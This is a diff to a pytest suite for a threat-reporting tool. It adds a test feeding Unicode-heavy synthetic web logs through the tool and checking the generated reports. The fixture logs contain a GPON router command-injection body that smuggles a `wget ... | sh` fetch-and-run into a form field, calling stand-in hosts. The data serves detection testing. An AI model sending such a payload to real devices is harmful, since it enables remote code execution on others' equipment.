@@ -10,7 +10,9 @@ import csv
 import json
 import re
 import subprocess
+import sys
 import time
+from pathlib import Path
 
 import pytest
 
@@ -169,3 +171,47 @@ def test_many_campaigns_open_in_a_browser(many_report, tmp_path):
     assert layout["n_wide"] == 0, layout["wide"]
     assert sum(c["label"].startswith("Daily detected events of ")
                for c in layout["charts"]) == TIMELINE_CAMPAIGNS
+
+
+BIN = str(Path(sys.executable).parent / "threatscope")
+UNICODE_ORGS = [("tokyo", "東京銀行 🏦", "金融 finance"), ("cairo", "بنك القاهرة", "مالية"),
+                ("zurich", "Zürich Versicherung e\u0301", "Versicherung 🇨🇭")]
+
+
+def test_unicode_workspace_end_to_end(tmp_path):
+    """Unicode organisation names, sectors, URIs and user agents through `threatscope run`:
+    the sectors and the payload URLs come out intact in the HTML and Markdown reports."""
+    data = tmp_path / "data"
+    data.mkdir()
+    with open(data / "orgs.csv", "w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([("org_id", "name", "sector"), *UNICODE_ORGS])
+    urls = []
+    for k, (org, _, _) in enumerate(UNICODE_ORGS):
+        (data / org).mkdir()
+        lines = []
+        for i in range(12):
+            url = f"http://例え{k}.テスト/攻撃{i}.sh"
+            urls.append(url)
+            for month in ("02", "05"):
+                lines.append({
+                    "ts": f"2018-{month}-{1 + i:02d}T10:00:00Z", "src_ip": f"198.51.100.{i + k}",
+                    "method": "POST", "uri": f"/GponForm/diag_Form?images/&q=東京{i}",
+                    "headers": {"User-Agent": f"Mozilla/5.0 🔥 ثعلب {i}", "Referer": "http://é.example/"},
+                    "body": f"XWebPageName=diag&diag_action=ping&dest_host=`wget+{url}+-O+-|sh`",
+                    "org_id": org})
+        (data / org / "web.jsonl").write_text(
+            "".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines), encoding="utf-8")
+    out = tmp_path / "out"
+    r = subprocess.run([BIN, "run", "-w", str(tmp_path / "ws"), "--orgs", str(data / "orgs.csv"),
+                        *[str(data / o) for o, _, _ in UNICODE_ORGS], "-o", str(out)],
+                       capture_output=True, text=True, timeout=300, check=False)
+    assert r.returncode == 0, r.stdout + r.stderr
+    m = json.loads((out / "report.json").read_text(encoding="utf-8"))
+    assert {s["sector"] for s in m["sectors"]} == {s for _, _, s in UNICODE_ORGS}
+    text = Page((out / "report.html").read_text(encoding="utf-8")).text
+    md = (out / "report.md").read_text(encoding="utf-8")
+    for _, _, sector in UNICODE_ORGS:
+        assert sector in text and sector in md, sector
+    shown = [a["value"] for a in m["indicators"]["appendix"] if a["indicator_type"] == "url"]
+    assert shown and set(shown) <= set(urls)
+    assert all(u in text for u in shown)
